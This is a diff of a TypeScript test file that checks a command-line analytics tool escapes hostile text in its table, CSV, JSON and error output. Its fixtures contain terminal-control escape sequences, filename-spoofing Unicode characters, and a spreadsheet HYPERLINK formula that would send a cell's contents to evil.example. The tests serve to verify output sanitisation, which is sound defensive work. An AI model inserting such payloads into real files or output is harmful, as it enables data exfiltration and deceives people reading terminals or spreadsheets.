@@ -28,50 +28,50 @@ beforeAll(async () => {
 });
 afterAll(() => directory[Symbol.asyncDispose]());
 
-const ask = (...argv: string[]) => run([...argv, '--storage', path], { columns: 80 });
-/** What nothing may print raw, but for the ends of lines. */
+const runCli = (...argv: string[]) => run([...argv, '--storage', path], { columns: 80 });
+/** Characters that must not be printed unescaped, except line breaks. */
 const RAW = /(?!\r?\n)[\p{Cc}\p{Cf}]/u;
 
-test('table', async () => {
-  expect((await ask('sum', 'user-agents')).out).toBe(lines`
+test('a table escapes hostile texts', async () => {
+  expect((await runCli('sum', 'user-agents')).out).toBe(lines`
                                         Avg. response
     Date        Hits  Transfer  Errors           time  Key
     2026-11-02     1       0 B       0         1.5 ms  \x1b[2J\x9b31mred\x7f\t9,999
   `);
-  const usage = await ask('usage');
+  const usage = await runCli('usage');
   expect(usage.out).not.toMatch(RAW);
   expect(usage.out.split('\n')).toHaveLength(3);
 });
 
-test('csv', async () => {
-  const { out } = await ask('sum', 'user-agents', '--format', 'csv');
+test('CSV escapes hostile texts', async () => {
+  const { out } = await runCli('sum', 'user-agents', '--format', 'csv');
   expect(out.split('\r\n')[1]).toBe(
     String.raw`day,2026-11-02T00:00:00+00:00,\x1b[2J\x9b31mred\x7f\t9,999,1,0,0,1500`.replace(
       /\\x1b.*9,999/,
       '"$&"',
     ),
   );
-  expect((await ask('sum', 'referrers', '--format', 'csv')).out.split('\r\n')[1]).toBe(
+  expect((await runCli('sum', 'referrers', '--format', 'csv')).out.split('\r\n')[1]).toBe(
     `day,2026-11-02T00:00:00+00:00,"'=HYPERLINK(""https://evil.example/?""&A1,""win"")",1,0,0,1500`,
   );
-  const usage = (await ask('usage', '--format', 'csv')).out;
+  const usage = (await runCli('usage', '--format', 'csv')).out;
   expect(usage).not.toMatch(RAW);
   expect(usage).toContain(String.raw`,'@\u202egnp\u200b.exe\x07\r\n\x85,`);
 });
 
-test('json: escaped, and still the same text', async () => {
-  const sums = (await ask('sum', 'user-agents', '--format', 'json')).out;
+test('JSON escapes hostile texts, and parses to the same text', async () => {
+  const sums = (await runCli('sum', 'user-agents', '--format', 'json')).out;
   expect(sums).toContain(String.raw`"key":"\u001b[2J\u009b31mred\u007f\t9,999"`);
   expect(JSON.parse(sums)).toMatchObject([{ key: AGENT }]);
-  const usage = (await ask('usage', '--format', 'json')).out;
+  const usage = (await runCli('usage', '--format', 'json')).out;
   expect(usage).not.toMatch(RAW);
   expect(JSON.parse(usage)).toMatchObject([
     { username: USERNAME, referrer: FORMULA, userAgent: { string: AGENT } },
   ]);
 });
 
-test('messages', async () => {
-  const { code, out, err } = await ask('sum', 'urls\x1b[2J\u202e');
+test('messages escape hostile texts', async () => {
+  const { code, out, err } = await runCli('sum', 'urls\x1b[2J\u202e');
   expect({ code, out }).toEqual({ code: 2, out: '' });
   expect(err).not.toMatch(RAW);
   expect((await run(['usage', '--storage', 'no\x9b\nfile.db'])).err).toContain(String.raw`no\x9b\nfile.db;`);
